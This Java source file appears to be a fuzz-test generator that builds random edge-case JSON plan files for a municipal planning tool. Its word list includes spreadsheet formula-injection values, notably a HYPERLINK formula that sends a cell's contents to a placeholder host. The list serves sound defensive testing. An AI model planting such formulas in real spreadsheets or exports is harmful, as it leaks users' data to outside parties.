package org.kaname.fuzz;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.kaname.model.Limits;

/**
 * Random plans that are valid by docs/plan-format.md and within {@link Limits}, drawn towards the edges: a period of
 * one year or of {@value Limits#MAX_PERIOD_YEARS} ending in {@value Limits#LAST_FISCAL_YEAR}, scales of 2 to
 * {@value Limits#MAX_SCALE_LEVELS} levels, costs of 0 or just below {@link Limits#MONEY_BOUND}, empty texts and texts
 * of exactly the longest length, one or many criteria, raters and measures, no pillars or groups, measures without a
 * group, long prerequisite chains, starts pinned to the period's ends. Written as JSON, the way a user's file
 * arrives, so the reader and the validator are part of what is tested.
 */
final class PlanGenerator {
    static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String[] WORDS = {"施策", "評価", "DX推進", "研修", "窓口", "データ", "A", "z", "0", " ", "・",
        "（仮）", "\n", "\t", "é", "𠮷", "😀", "=HYPERLINK(\"http://example.invalid/\"&A1,\"click me\")", "=1+1", "+81",
        "-5", "@SUM(A1)", "\"引用\"", ",", ";", "\\", "<b>", "&amp;", "'", "ｶﾀｶﾅ", "①", "Ⅻ", "\u3000"};
    /** Limits.MAX_WEIGHT (being added to Limits in issue 13): the largest weight, swing point or scenario weight. */
    static final double MAX_WEIGHT = 1_000_000;
    /** Limits.TOTAL_COST_BOUND (being added in issue 13): all costs of a plan over their durations stay below it. */
    static final long TOTAL_COST_BOUND = 1_000_000_000_000_000_000L;
    private static final long[] EDGE_MONEY = {0, 1, 999, 1_000_000, 2_147_483_647L, 2_147_483_648L,
        Limits.MONEY_BOUND - 1, Limits.MONEY_BOUND / 10};

    private final SplittableRandom random;

    /** One plan in four has texts of the longest length here and there; the others are quick to run commands on. */
    private final boolean longestTexts;

    PlanGenerator(SplittableRandom random) {
        this.random = random;
        this.longestTexts = random.nextInt(4) == 0;
    }

    ObjectNode plan() {
        ObjectNode p = NODES.objectNode();
        p.put("format", "kaname-plan");
        p.put("version", 1);
        p.put("title", nonBlank(Limits.SHORT_TEXT_LENGTH));
        optionalText(p, "organization", Limits.SHORT_TEXT_LENGTH);
        optionalText(p, "description", Limits.LONG_TEXT_LENGTH);
        optionalText(p, "summary", Limits.LONG_TEXT_LENGTH);
        int[] years = period();
        ObjectNode fy = p.putObject("fiscalYears");
        fy.put("start", years[0]);
        fy.put("end", years[1]);
        budget(p, years);
        tiers(p);
        List<String> criteria = criteria(p);
        weighting(p, criteria);
        List<String> pillars = ids("p", pick(0, 0, 1, 3));
        ArrayNode ps = p.putArray("pillars");
        for (String id : pillars) {
            ObjectNode o = ps.addObject();
            o.put("id", id);
            o.put("name", nonBlank(Limits.SHORT_TEXT_LENGTH));
            optionalText(o, "description", Limits.LONG_TEXT_LENGTH);
        }
        List<String> groups = ids("G", pick(0, 0, 1, 2, 5));
        ArrayNode gs = p.putArray("groups");
        for (String id : groups) {
            ObjectNode o = gs.addObject();
            o.put("id", id);
            if (!pillars.isEmpty() && random.nextInt(4) != 0) {
                o.put("pillar", pillars.get(random.nextInt(pillars.size())));
            }
            o.put("title", nonBlank(Limits.SHORT_TEXT_LENGTH));
            optionalText(o, "purpose", Limits.LONG_TEXT_LENGTH);
            indicators(o, years);
            evidence(o, "evidence");
        }
        List<String> problems = ids("P", pick(0, 0, 1, 3));
        List<String> measures = ids("M", pick(1, 1, 2, 5, 12, 40));
        ArrayNode ms = p.putArray("measures");
        boolean chain = random.nextInt(4) == 0;
        for (int i = 0; i < measures.size(); i++) {
            ObjectNode o = ms.addObject();
            o.put("id", measures.get(i));
            if (!groups.isEmpty() && random.nextInt(4) != 0) {
                o.put("group", groups.get(random.nextInt(groups.size())));
            }
            o.put("title", nonBlank(Limits.SHORT_TEXT_LENGTH));
            optionalText(o, "description", Limits.LONG_TEXT_LENGTH);
            optionalText(o, "owner", Limits.SHORT_TEXT_LENGTH);
            int length = years[1] - years[0] + 1;
            int duration = random.nextInt(8) == 0 ? Limits.MAX_PERIOD_YEARS : 1 + random.nextInt(length);
            long initial = money();
            long annual = money();
            // Keep the plan's total cost below the bound: costs left over go to zero.
            long room = TOTAL_COST_BOUND - 1 - totalCost;
            initial = Math.min(initial, room);
            annual = Math.min(annual, (room - initial) / duration);
            totalCost += initial + annual * duration;
            o.put("initialCost", initial);
            o.put("annualCost", annual);
            o.put("durationYears", duration);
            if (random.nextInt(4) == 0) {
                o.put("earliestStart", edgeYear(years));
            }
            if (random.nextInt(5) == 0) {
                o.put("pinnedStart", edgeYear(years));
            }
            ArrayNode deps = o.putArray("dependsOn");
            if (i > 0 && chain) {
                deps.add(measures.get(i - 1));
            } else if (i > 0 && random.nextInt(4) == 0) {
                deps.add(measures.get(random.nextInt(i)));
            }
            if (!problems.isEmpty() && random.nextBoolean()) {
                o.putArray("addresses").add(problems.get(random.nextInt(problems.size())));
            }
            indicators(o, years);
            evidence(o, "evidence");
        }
        ArrayNode sig = p.putArray("significance");
        for (int i = pick(0, 0, 1, 3); i > 0; i--) {
            ObjectNode o = sig.addObject();
            o.put("stakeholder", stakeholder());
            o.put("text", nonBlank(Limits.LONG_TEXT_LENGTH));
        }
        ArrayNode prs = p.putArray("problems");
        for (String id : problems) {
            ObjectNode o = prs.addObject();
            o.put("id", id);
            o.put("stakeholder", stakeholder());
            o.put("title", nonBlank(Limits.SHORT_TEXT_LENGTH));
            optionalText(o, "description", Limits.LONG_TEXT_LENGTH);
            optionalText(o, "consequence", Limits.LONG_TEXT_LENGTH);
            evidence(o, "evidence");
        }
        ArrayNode cases = p.putArray("cases");
        for (int i = pick(0, 0, 1, 2); i > 0; i--) {
            ObjectNode o = cases.addObject();
            o.put("municipality", nonBlank(Limits.SHORT_TEXT_LENGTH));
            o.put("title", nonBlank(Limits.SHORT_TEXT_LENGTH));
            optionalText(o, "summary", Limits.LONG_TEXT_LENGTH);
            optionalText(o, "successFactors", Limits.LONG_TEXT_LENGTH);
            optionalText(o, "results", Limits.LONG_TEXT_LENGTH);
            evidence(o, "sources");
            if (!groups.isEmpty()) {
                o.putArray("groups").add(groups.get(0));
            }
        }
        ArrayNode timeline = p.putArray("timeline");
        for (int i = pick(0, 0, 2); i > 0; i--) {
            ObjectNode o = timeline.addObject();
            o.put("year", random.nextBoolean() ? Limits.FIRST_FISCAL_YEAR : Limits.LAST_FISCAL_YEAR);
            o.put("text", nonBlank(Limits.LONG_TEXT_LENGTH));
            optionalText(o, "source", Limits.SHORT_TEXT_LENGTH);
        }
        List<String> raters = ids("r", pick(0, 1, 1, 3, 12));
        ArrayNode rs = p.putArray("raters");
        for (String id : raters) {
            ObjectNode o = rs.addObject();
            o.put("id", id);
            o.put("name", nonBlank(Limits.SHORT_TEXT_LENGTH));
        }
        ArrayNode scores = p.putArray("scores");
        double fill = new double[] {0, 0.3, 1, 1}[random.nextInt(4)];
        for (String m : measures) {
            for (int c = 0; c < criteria.size(); c++) {
                for (String r : raters) {
                    if (random.nextDouble() < fill) {
                        scores.add(score(m, criteria.get(c), r, scales.get(c)));
                    }
                }
            }
        }
        scenarios(p, criteria);
        rounds(p, measures, criteria, raters);
        return p;
    }

    private final List<int[]> scales = new ArrayList<>();
    private long totalCost;

    private int[] period() {
        int first = Limits.FIRST_FISCAL_YEAR;
        int last = Limits.LAST_FISCAL_YEAR;
        int max = Limits.MAX_PERIOD_YEARS;
        return switch (random.nextInt(6)) {
            case 0 -> new int[] {last - max + 1, last};
            case 1 -> new int[] {first, first + max - 1};
            case 2 -> new int[] {last, last};
            case 3 -> new int[] {first, first};
            default -> {
                int start = 2020 + random.nextInt(20);
                yield new int[] {start, start + random.nextInt(max)};
            }
        };
    }

    private int edgeYear(int[] years) {
        return switch (random.nextInt(3)) {
            case 0 -> years[0];
            case 1 -> years[1];
            default -> years[0] + random.nextInt(years[1] - years[0] + 1);
        };
    }

    private void budget(ObjectNode p, int[] years) {
        switch (random.nextInt(4)) {
            case 0 -> p.put("budgetPerYear", money());
            case 1 -> {
                ObjectNode b = p.putObject("budgetPerYear");
                for (int y = years[0]; y <= years[1]; y++) {
                    if (random.nextBoolean()) {
                        b.put(Integer.toString(y), money());
                    }
                }
            }
            default -> {
            }
        }
    }

    private void tiers(ObjectNode p) {
        if (random.nextBoolean()) {
            return;
        }
        ArrayNode ts = p.putArray("tiers");
        int n = pick(1, 1, 3, 6);
        for (int i = 0; i < n; i++) {
            ObjectNode t = ts.addObject();
            t.put("name", i + ":" + text(Limits.CODE_LENGTH - 4));
            t.put("minScore", i == 0 ? 0 : random.nextInt(3) == 0 ? 100 : random.nextInt(101));
        }
    }

    private List<String> criteria(ObjectNode p) {
        List<String> ids = ids("c", pick(1, 1, 2, 5, 9));
        ArrayNode cs = p.putArray("criteria");
        boolean positive = false;
        for (int i = 0; i < ids.size(); i++) {
            ObjectNode c = cs.addObject();
            c.put("id", ids.get(i));
            c.put("name", nonBlank(Limits.SHORT_TEXT_LENGTH));
            optionalText(c, "description", Limits.LONG_TEXT_LENGTH);
            double weight = switch (random.nextInt(5)) {
                case 0 -> 0;
                case 1 -> 1e-9;
                case 2 -> MAX_WEIGHT;
                default -> 1 + random.nextInt(100);
            };
            if (i == ids.size() - 1 && !positive && weight == 0) {
                weight = 1;
            }
            positive |= weight > 0;
            c.put("weight", weight);
            c.put("direction", random.nextInt(3) == 0 ? "cost" : "benefit");
            int[] scale = switch (random.nextInt(5)) {
                case 0 -> new int[] {0, 1};
                case 1 -> new int[] {0, Limits.MAX_SCALE_LEVELS - 1};
                case 2 -> new int[] {-50, 50};
                case 3 -> new int[] {1, 2 + random.nextInt(9)};
                default -> new int[] {1, 5};
            };
            scales.add(scale);
            ObjectNode s = c.putObject("scale");
            s.put("min", scale[0]);
            s.put("max", scale[1]);
            if (random.nextBoolean()) {
                ObjectNode levels = s.putObject("levels");
                levels.put(Integer.toString(scale[0]), nonBlank(Limits.SHORT_TEXT_LENGTH));
                levels.put(Integer.toString(scale[1]), nonBlank(Limits.SHORT_TEXT_LENGTH));
            }
        }
        return ids;
    }

    private void weighting(ObjectNode p, List<String> criteria) {
        ObjectNode w = p.putObject("weighting");
        switch (random.nextInt(4)) {
            case 1 -> {
                w.put("method", "roc");
                criteria.forEach(w.putArray("ranking")::add);
            }
            case 2 -> {
                w.put("method", "swing");
                criteria.forEach(w.putArray("ranking")::add);
                ObjectNode points = w.putObject("points");
                for (int i = 0; i < criteria.size(); i++) {
                    points.put(criteria.get(i), i == 0 ? 100 : random.nextInt(4) == 0 ? MAX_WEIGHT : random.nextInt(101));
                }
            }
            case 3 -> {
                if (criteria.size() > 5) {
                    w.put("method", "direct");
                    return;
                }
                w.put("method", "ahp");
                ArrayNode judgments = w.putArray("judgments");
                for (int a = 0; a < criteria.size(); a++) {
                    for (int b = a + 1; b < criteria.size(); b++) {
                        ObjectNode j = judgments.addObject();
                        j.put("a", criteria.get(a));
                        j.put("b", criteria.get(b));
                        j.put("value", new double[] {1.0 / 9, 1, 9, 0.5, 3}[random.nextInt(5)]);
                    }
                }
            }
            default -> w.put("method", "direct");
        }
    }

    private void indicators(ObjectNode o, int[] years) {
        if (random.nextInt(3) != 0) {
            return;
        }
        ArrayNode is = o.putArray("indicators");
        String[] kinds = {"KGI", "KSI", "KPI_OUTCOME", "KPI_OUTPUT"};
        ObjectNode i = is.addObject();
        i.put("kind", kinds[random.nextInt(kinds.length)]);
        i.put("name", nonBlank(Limits.SHORT_TEXT_LENGTH));
        optionalText(i, "target", Limits.SHORT_TEXT_LENGTH);
        optionalText(i, "unit", Limits.CODE_LENGTH);
        optionalText(i, "method", Limits.SHORT_TEXT_LENGTH);
        if (random.nextBoolean()) {
            i.put("targetYear", years[1]);
        }
    }

    private void evidence(ObjectNode o, String field) {
        if (random.nextInt(3) != 0) {
            return;
        }
        ArrayNode es = o.putArray(field);
        String[] kinds = {"national-plan", "statistics", "peer-case", "research", "expert", "other"};
        ObjectNode e = es.addObject();
        e.put("title", nonBlank(Limits.SHORT_TEXT_LENGTH));
        optionalText(e, "url", Limits.SHORT_TEXT_LENGTH);
        e.put("kind", kinds[random.nextInt(kinds.length)]);
        optionalText(e, "note", Limits.LONG_TEXT_LENGTH);
    }

    private ObjectNode score(String m, String c, String r, int[] scale) {
        ObjectNode s = NODES.objectNode();
        s.put("measure", m);
        s.put("criterion", c);
        s.put("rater", r);
        double value = switch (random.nextInt(4)) {
            case 0 -> scale[0];
            case 1 -> scale[1];
            case 2 -> scale[0] + random.nextDouble() * (scale[1] - scale[0]);
            default -> scale[0] + random.nextInt(scale[1] - scale[0] + 1);
        };
        s.put("value", value);
        if (random.nextInt(4) == 0) {
            s.put("note", text(random.nextInt(20) == 0 ? Limits.LONG_TEXT_LENGTH : 40));
        }
        if (random.nextBoolean()) {
            s.put("time", "2026-11-01T09:00:00Z");
        }
        return s;
    }

    private void scenarios(ObjectNode p, List<String> criteria) {
        ArrayNode ss = p.putArray("scenarios");
        for (int i = pick(0, 0, 1, 2); i > 0; i--) {
            ObjectNode s = ss.addObject();
            s.put("name", "シナリオ" + i);
            ObjectNode w = s.putObject("weights");
            w.put(criteria.get(0), random.nextBoolean() ? MAX_WEIGHT : 1 + random.nextInt(50));
        }
    }

    private void rounds(ObjectNode p, List<String> measures, List<String> criteria, List<String> raters) {
        if (raters.isEmpty() || random.nextBoolean()) {
            return;
        }
        ArrayNode rounds = p.putArray("rounds");
        ObjectNode r = rounds.addObject();
        r.put("number", 1);
        r.put("title", text(30));
        r.putArray("measures").add(measures.get(0));
        raters.forEach(r.putArray("raters")::add);
        r.put("anonymous", random.nextBoolean());
        boolean open = random.nextBoolean();
        r.put("state", open ? "open" : "revealed");
        r.put("opened", "2026-11-10T01:00:00Z");
        if (!open) {
            r.put("revealed", "2026-11-10T01:30:00Z");
        }
        r.putArray("scores").add(score(measures.get(0), criteria.get(0), raters.get(0), scales.get(0)));
    }

    private String stakeholder() {
        return new String[] {"residents", "community", "administration"}[random.nextInt(3)];
    }

    private long money() {
        return random.nextBoolean() ? EDGE_MONEY[random.nextInt(EDGE_MONEY.length)]
                : random.nextLong(Limits.MONEY_BOUND);
    }

    private List<String> ids(String prefix, int n) {
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            // Now and then an id of the longest length, still unique by its numbered start.
            String id = prefix + i;
            if (random.nextInt(15) == 0) {
                id = id + "-" + "x".repeat(Limits.CODE_LENGTH - id.length() - 1);
            }
            ids.add(id);
        }
        return ids;
    }

    private int pick(int... choices) {
        return choices[random.nextInt(choices.length)];
    }

    private void optionalText(ObjectNode o, String field, int limit) {
        switch (random.nextInt(6)) {
            case 0 -> {
            }
            case 1 -> o.put(field, "");
            default -> o.put(field, text(limit));
        }
    }

    private String nonBlank(int limit) {
        String t = text(limit);
        return t.isBlank() ? "題" + t.substring(0, Math.min(t.length(), limit - 1)) : t;
    }

    /** A text of at most {@code limit} characters (UTF-16 units): usually short, now and then exactly the limit. */
    String text(int limit) {
        int length = switch (random.nextInt(12)) {
            case 0 -> longestTexts || limit <= Limits.CODE_LENGTH ? limit : 1 + random.nextInt(60);
            case 1 -> 0;
            case 2 -> 1;
            default -> 1 + random.nextInt(Math.min(limit, 60));
        };
        StringBuilder s = new StringBuilder();
        while (s.length() < length) {
            s.append(WORDS[random.nextInt(WORDS.length)]);
        }
        s.setLength(length);
        if (length > 0 && Character.isHighSurrogate(s.charAt(length - 1))) {
            s.setCharAt(length - 1, 'x'); // cut inside a surrogate pair: keep the text valid
        }
        return s.toString();
    }
}
